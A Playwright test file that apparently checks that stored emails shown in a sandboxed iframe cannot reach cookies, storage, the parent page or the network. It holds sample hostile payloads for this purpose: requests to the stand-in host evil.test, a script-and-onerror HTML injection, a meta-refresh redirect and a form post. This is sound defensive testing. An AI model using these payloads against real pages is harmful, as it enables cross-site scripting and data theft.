/** Tries what a stored email could do from inside its iframe. */
import type { Frame, Page } from '@playwright/test'
import { expect, test } from './base.ts'

const LIVE = '/brand/fernhill/email/fernhill-the-wrappings-on-us?view=live'
const FRAME = '/email/fernhill-the-wrappings-on-us/html'

async function openFrame(page: Page, until: 'load' | 'domcontentloaded' = 'load'): Promise<Frame> {
  await page.goto(LIVE, { waitUntil: until })
  const element = await page.waitForSelector('iframe')
  const frame = (await element.contentFrame())!
  await frame.waitForURL(({ pathname }) => pathname === FRAME, { waitUntil: until })
  return frame
}

test('serves the email for its iframe only', async ({ request }) => {
  const headers = (await request.get(FRAME)).headers()
  expect(headers['content-security-policy']).toBe(
    "default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; font-src 'self' data:; form-action 'none'; " +
      "base-uri 'none'; frame-src 'none'; sandbox allow-popups allow-popups-to-escape-sandbox; frame-ancestors 'self'",
  )
  expect(headers['x-frame-options']).toBe('SAMEORIGIN')
  expect(headers['content-type']).toBe('text/html; charset=utf-8')
  expect(headers['x-content-type-options']).toBe('nosniff')
  const source = (await request.get('/email/fernhill-the-wrappings-on-us/source')).headers()
  expect(source['content-type']).toBe('text/plain; charset=utf-8')
  expect((await request.get('/email/no-such-email/html')).status()).toBe(404)
})

test('loads its fonts and images, although it has no origin', async ({ page }) => {
  const frame = await openFrame(page)
  await expect
    .poll(() => frame.evaluate(() => [...document.fonts].filter((font) => font.status === 'loaded').length))
    .toBeGreaterThan(0)
  await expect
    .poll(() => frame.evaluate(() => [...document.images].every((image) => image.naturalWidth > 0)))
    .toBe(true)
})

/** Run as if scripts of the email could run, which they cannot. Each must throw. */
const REACHES: Record<string, () => unknown> = {
  'read cookies': () => document.cookie,
  'set a cookie': () => (document.cookie = 'stolen=1'),
  'read what is stored': () => localStorage.length,
  'read what the session stores': () => sessionStorage.length,
  'open a database': () => {
    indexedDB.open('x')
  },
  'read the page around it': () => window.parent.document.title,
  'write into the page around it': () => (window.parent.document.title = 'mine'),
  'lead the page away': () => (window.top!.location.href = 'https://evil.test/'),
  'ask for something elsewhere': () => fetch('https://evil.test/fetch'),
  'ask for something here': () => fetch('/saved'),
}

/** Requests without a response to wait for. */
function askEveryWay(): void {
  const image = new Image()
  image.src = 'https://evil.test/open.gif'
  const link = Object.assign(document.createElement('link'), {
    rel: 'stylesheet',
    href: 'https://evil.test/x.css',
  })
  const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.test/frame' })
  const script = Object.assign(document.createElement('script'), { src: 'https://evil.test/x.js' })
  const font = new FontFace('x', 'url(https://evil.test/f.woff2)')
  document.body.append(image, link, frame, script)
  void font.load().catch(() => {})
  navigator.sendBeacon('https://evil.test/beacon', 'x')
  const socket = new WebSocket('wss://evil.test/')
  socket.addEventListener('open', () => socket.send('x'))
  const form = Object.assign(document.createElement('form'), {
    action: 'https://evil.test/form',
    method: 'post',
  })
  document.body.append(form)
  form.submit()
}

/** All requests to other origins. Requests stopped by the content security policy never get here. */
async function watchOutside(page: Page): Promise<string[]> {
  const outside: string[] = []
  await page.context().route(/evil\.test/, (route) => {
    outside.push(route.request().url())
    return route.abort()
  })
  page.on('websocket', (socket) => {
    socket.on('framesent', () => outside.push(socket.url()))
    socket.on('framereceived', () => outside.push(socket.url()))
  })
  return outside
}

test('cannot reach cookies, storage, the page around it or the network', async ({
  page,
  context,
  consoleErrors,
}) => {
  const outside = await watchOutside(page)
  const frame = await openFrame(page)
  await context.addCookies([{ name: 'secret', value: 'kept', url: new URL(page.url()).origin }])
  for (const [what, reach] of Object.entries(REACHES)) {
    const outcome = await frame.evaluate(reach).then(
      (got) => `reached ${String(got)}`,
      () => 'kept out',
    )
    expect(outcome, what).toBe('kept out')
  }
  await frame.evaluate(askEveryWay)
  await expect
    .poll(() => frame.evaluate(() => [...document.images].every((image) => image.complete)))
    .toBe(true)
  expect(outside).toEqual([])
  await expect(page).toHaveURL(LIVE)
  expect(new URL(frame.url()).pathname).toBe(FRAME)
  expect((await context.cookies()).map(({ name }) => name)).not.toContain('stolen')
  // The browser logs each blocked attempt.
  consoleErrors.length = 0
})

test('the test would notice: without its policy the same email requests everything', async ({
  page,
  consoleErrors,
}) => {
  const outside = await watchOutside(page)
  await page.route(`**${FRAME}`, async (route) => {
    await route.fulfill({ contentType: 'text/html', body: HOSTILE })
  })
  await page.goto(FRAME)
  await expect.poll(() => outside.length).toBeGreaterThan(3)
  consoleErrors.length = 0
})

const HOSTILE = `<!doctype html><p>Hostile</p><script>document.title='ran'</script>
  <img src=x onerror="document.title='ran'">
  <form id=f action="https://evil.test/f"><input name=a value=b><button>Send</button></form>
  <iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/o"></object>
  <img src="https://evil.test/open.gif"><link rel=stylesheet href="https://evil.test/x.css">
  <style>@import url(https://evil.test/i.css);body{background:url(https://evil.test/b.png)}</style>`

test('scripts in it do not run, forms do not submit, and it cannot navigate', async ({
  page,
  consoleErrors,
}) => {
  const outside = await watchOutside(page)
  await page.route(`**${FRAME}`, async (route) => {
    const response = await route.fetch()
    const refresh = '<meta http-equiv=refresh content="0;url=https://evil.test/">'
    await route.fulfill({ response, body: HOSTILE + refresh })
  })
  // Its requests may never be answered, so it may never finish loading.
  const frame = await openFrame(page, 'domcontentloaded')
  await expect(frame.getByText('Hostile')).toBeVisible()
  await frame.evaluate(() => document.querySelector('button')!.click())
  await expect(frame.getByText('Hostile')).toBeVisible()
  expect(await frame.evaluate(() => document.title)).toBe('')
  expect(outside).toEqual([])
  consoleErrors.length = 0
})
